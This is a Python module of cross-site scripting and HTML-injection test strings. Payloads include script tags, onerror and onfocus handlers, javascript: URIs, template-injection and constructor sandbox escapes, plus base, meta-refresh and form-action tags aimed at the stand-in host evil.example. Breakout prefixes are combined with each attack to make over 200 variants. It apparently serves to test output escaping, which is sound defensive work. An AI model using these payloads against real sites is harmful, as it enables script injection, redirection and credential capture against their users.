"""Words that would run a script or break a page, were they ever taken for markup."""

from __future__ import annotations

ALERT = "window.__executed = (window.__executed || 0) + 1"
BY_HAND = [
    f"<script>{ALERT}</script>",
    f'"><img src=x onerror="{ALERT}">',
    f"'><svg onload='{ALERT}'>",
    f"javascript:{ALERT}",
    f"</title><script>{ALERT}</script>",
    f"</textarea><script>{ALERT}</script>",
    f"</pre></option></select><iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>",
    f"<a href='javascript:{ALERT}' autofocus onfocus='{ALERT}'>x</a>",
    "{{ 7 * 7 }}{% raw %}",
    "<style>*{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "</mark></p></li></ol></main><form action='https://evil.example'><button>",
    "\u202egpj.exe\u202c", "a" * 3000, "؀" * 50, "\x00\x08\x1f", "&lt;script&gt;", "%3Cscript%3E", "\ud7ff\uffff",
]  # fmt: skip
_BREAKS = (
    "",
    '"',
    "'",
    "`",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</pre>",
    "</option></select>",
    "</svg>",
    "*/",
    "\n\n",
)
_ATTACKS = (
    f"<script>{ALERT}</script>",
    f"<scr<script>ipt>{ALERT}</script>",
    f"<img src=x onerror={ALERT}>",
    f"<svg/onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    f"<math><mtext><img src=x onerror={ALERT}></mtext></math>",
    f"<details open ontoggle={ALERT}>x</details>",
    f"<video><source onerror={ALERT}></video>",
    f"<input autofocus onfocus={ALERT}>",
    f"<iframe src=javascript:parent.{ALERT}></iframe>",
    f"<object data='data:text/html,<script>{ALERT}</script>'></object>",
    f"<form><button formaction=javascript:{ALERT}>x</button></form>",
    f"<style>@import 'javascript:{ALERT}';</style>",
    f" onmouseover={ALERT} style=animation-name:x ",
    f"{{{{constructor.constructor('{ALERT}')()}}}}",
)
PAYLOADS = [*BY_HAND, *(f"{before}>{attack}" for before in _BREAKS for attack in _ATTACKS)]
"""200 and more: what breaks out of a text, an attribute, an element, and what it would do then."""
